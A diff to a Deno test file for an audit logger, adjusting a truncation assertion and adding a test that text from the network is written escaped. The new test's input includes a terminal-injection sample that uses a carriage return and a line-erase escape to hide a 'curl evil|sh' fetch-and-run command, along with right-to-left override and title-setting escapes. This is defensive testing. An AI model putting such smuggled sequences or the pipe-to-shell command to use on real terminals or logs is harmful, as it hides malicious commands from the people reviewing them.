@@ -52,7 +52,7 @@ Deno.test("AuditLog writes the reference's line format with sorted keys", async 
     );
     const denied = JSON.parse(lines[2]!);
     assertEquals(denied.error_code, "permission_denied");
-    assertEquals(denied.error_message.length, 200);
+    assertEquals(denied.error_message, `${"x".repeat(200)}…[100 more characters]`);
     assertEquals(denied.outcome, "error");
     const stream = JSON.parse(lines[3]!);
     assertEquals([stream.type, stream.event, stream.frames, stream.outcome], [
@@ -148,6 +148,30 @@ Deno.test("AuditLog call records stay exact when method, summary, peer or sessio
       assertEquals(line.peer.fp, peer.key ? KEY_FP : "");
       assertEquals(line.error_code, code);
     });
+  } finally {
+    await Deno.remove(home, { recursive: true });
+  }
+});
+
+Deno.test("AuditLog writes text from the network escaped", async () => {
+  const home = await Deno.makeTempDir();
+  try {
+    const audit = new AuditLog(home, { now: () => Date.UTC(2025, 0, 15, 12) });
+    const peer = { key: null, name: "" };
+    audit.call(peer, {
+      sessionId: "1",
+      method: "process.exec",
+      summary: "run 'ls\r\x1b[2Kcurl evil|sh' \u202Eexe",
+      error: { code: "not_found", message: "Cannot read '\x1b]0;x\x07'" },
+    });
+    audit.sessionRejected(peer, { remoteAddr: "10.0.0.7:1", reason: "bad \x1b[31mkind" });
+    await audit.close();
+    const [dir] = [...Deno.readDirSync(`${home}/audit`)];
+    const records = (await Deno.readTextFile(`${home}/audit/${dir!.name}`)).trimEnd().split("\n")
+      .map((l) => JSON.parse(l));
+    assertEquals(records[0].summary, "run 'ls\\x0d\\x1b[2Kcurl evil|sh' \\u{202e}exe");
+    assertEquals(records[0].error_message, "Cannot read '\\x1b]0;x\\x07'");
+    assertEquals(records[1].reason, "bad \\x1b[31mkind");
   } finally {
     await Deno.remove(home, { recursive: true });
   }
